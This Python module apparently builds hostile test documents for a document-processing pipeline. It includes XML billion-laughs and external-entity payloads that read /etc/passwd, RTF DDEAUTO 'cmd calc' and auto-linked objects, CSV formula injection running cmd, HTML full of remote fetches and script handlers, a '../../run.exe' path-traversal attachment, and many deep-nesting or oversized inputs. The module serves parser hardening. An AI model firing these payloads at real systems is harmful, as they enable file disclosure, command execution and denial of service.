"""Pages, tables, data, rich text and mails made to hurt."""

from __future__ import annotations

import base64

from made.archives import GOOD
from made.office import LAUGHS, outside

DEEP = 100_000


def xml_laughs() -> str:
    """A billion laughs."""
    return f"<?xml version='1.0'?>{LAUGHS}<l><x>{GOOD}</x><y>&a11;</y></l>"


def xml_outside(url: str) -> str:
    """Entities, styles and inclusions that stand elsewhere."""
    return (
        f"<?xml version='1.0'?><?xml-stylesheet href='{url}'?>{outside(url)}"
        f"<l xmlns:xi='http://www.w3.org/2001/XInclude'><x>{GOOD}&a11;&u;</x>"
        f"<xi:include href='{url}'/><xi:include href='/etc/passwd' parse='text'/></l>"
    )


def svg_laughs() -> str:
    """A drawing with a billion laughs."""
    return f"<?xml version='1.0'?>{LAUGHS}<svg><text>{GOOD}&a11;</text></svg>"


def xml_deep() -> str:
    """Elements in elements."""
    return f"<a>{GOOD}" + "<a>" * DEEP + "x"


def json_deep() -> str:
    """Lists in lists."""
    return "[" * DEEP + "]" * DEEP


def html_deep() -> str:
    """Boxes in boxes."""
    return f"<p>{GOOD}</p>" + "<div>" * DEEP + "end"


def html_tables_deep() -> str:
    """Tables in tables."""
    return f"<p>{GOOD}</p>" + "<table><tr><td>x" * (DEEP // 10) + "end"


def html_spans() -> str:
    """A table whose cells all want to be as large as can be."""
    return f"<p>{GOOD}</p><table>" + "<tr><td rowspan=65534 colspan=1000>x" * 3000 + "</table>"


def rtf_deep() -> str:
    """Groups in groups."""
    return r"{\rtf1\ansi " + GOOD + r"\par " + "{" * DEEP + "x" + "}" * DEEP + "}"


def rtf_remote(url: str) -> str:
    """Pictures, a template and an object that lie elsewhere, and one that is a program."""
    return (
        r"{\rtf1\ansi{\*\template " + url + r"}" + GOOD + r"\par"
        r'{\field{\*\fldinst INCLUDEPICTURE "' + url + r'" \\d}{\fldrslt x}}'
        r"{\field{\*\fldinst DDEAUTO cmd calc}{\fldrslt x}}"
        r"{\object\objautlink\objupdate{\*\objclass Package}{\*\objdata "
        + "0105000002"
        * 5000
        + "}}"
        r"{\pict\pngblip\bin1000000000 x}}"
    )


def csv_formulas(url: str) -> str:
    """Cells that a spreadsheet would compute."""
    return (
        "Name,Price,Note\n"
        f"Good words stand here.,=cmd|' /C calc'!A0,=HYPERLINK(\"{url}\")\n"
        f'Pump,"=IMPORTXML(""{url}"",""//a"")",@SUM(1+1)*cmd|\' /C calc\'!A0\n'
    )


def csv_line() -> str:
    """One line of 50 MB."""
    return f"{GOOD}" + "a,bc;d " * 7_142_857


def csv_columns() -> str:
    """A hundred rows of 100,000 cells."""
    return f"name,{GOOD}" + (",".join(["1"] * DEEP) + "\n") * 100


def text_line() -> str:
    """One line of 50 MB without a space."""
    return GOOD + "x" * 50_000_000


def markdown_columns() -> str:
    """A table of 100,000 columns."""
    row = "|x" * DEEP + "|\n"
    return f"# Table\n\n{GOOD}\n" + row + "|-" * DEEP + "|\n" + row * 4


def markdown_bars() -> str:
    """Ragged tables without outer bars."""
    return f"{GOOD}\n" + "a|b\n-|-\n" * 20_000


def html_scripts(url: str) -> str:
    """Scripts, frames, handlers and all else that a browser fetches."""
    return (
        f'<html><head><base href="{url}/"><link rel=stylesheet href="{url}"><link rel=preload '
        f'href="{url}"><meta http-equiv=refresh content="0;url={url}"><script src="{url}"></script>'
        f"<style>@import url({url});</style></head><body background='{url}' onload='evil()'>"
        f'<p onclick="evil()">{GOOD}</p><script>var evil = "scripted words";</script>'
        f'<iframe src="{url}" srcdoc="<p>framed words"></iframe><img src="{url}" srcset="{url} 2x" '
        f'onerror="evil()"><object data="{url}"></object><embed src="{url}"><video src="{url}" '
        f'poster="{url}"></video><svg><image href="{url}"/><script>evil()</script></svg>'
        f'<a href="javascript:evil()">a link</a><form action="{url}"><input value=x></form></body>'
    )


def mail_deep(levels: int = 60) -> str:
    """A mail in a mail in a mail."""
    heads = "".join(
        f"Subject: level {n}\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b{n}\n\n"
        f"--b{n}\nContent-Type: text/plain\n\n{GOOD}--b{n}\nContent-Type: message/rfc822\n\n"
        for n in range(levels)
    )
    return heads + "Subject: last\n\nThe last one.\n"


def mail_remote(url: str) -> str:
    """Pictures, bodies and calendars that lie elsewhere, and a program."""
    return (
        "Subject: Remote\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n"
        f"List-Unsubscribe: <{url}>\nDisposition-Notification-To: x@y\n\n--b\n"
        f"Content-Type: text/html\n\n{html_scripts(url)}\n--b\n"
        f'Content-Type: message/external-body; access-type=URL; URL="{url}"\n\n'
        "Content-Type: text/plain\n\n--b\nContent-Type: application/octet-stream\n"
        "Content-Disposition: attachment; filename=../../run.exe\n\nMZ\n--b--\n"
    )


def mail_packed() -> str:
    """An attachment of 40 MB that is packed in letters."""
    data = base64.encodebytes(b"many words \n" * 2_500_000).decode()
    return (
        f"Subject: Packed\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\n"
        f"{GOOD}\n--b\nContent-Disposition: attachment; filename=a.csv\n"
        f"Content-Transfer-Encoding: base64\n\n{data}\n--b--\n"
    )


def page_saved(url: str) -> str:
    """A saved page whose parts lie elsewhere."""
    return (
        "From: <Saved>\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\n"
        f"Content-Type: text/html\nContent-Location: {url}\n\n{html_scripts(url)}\n--b--\n"
    )
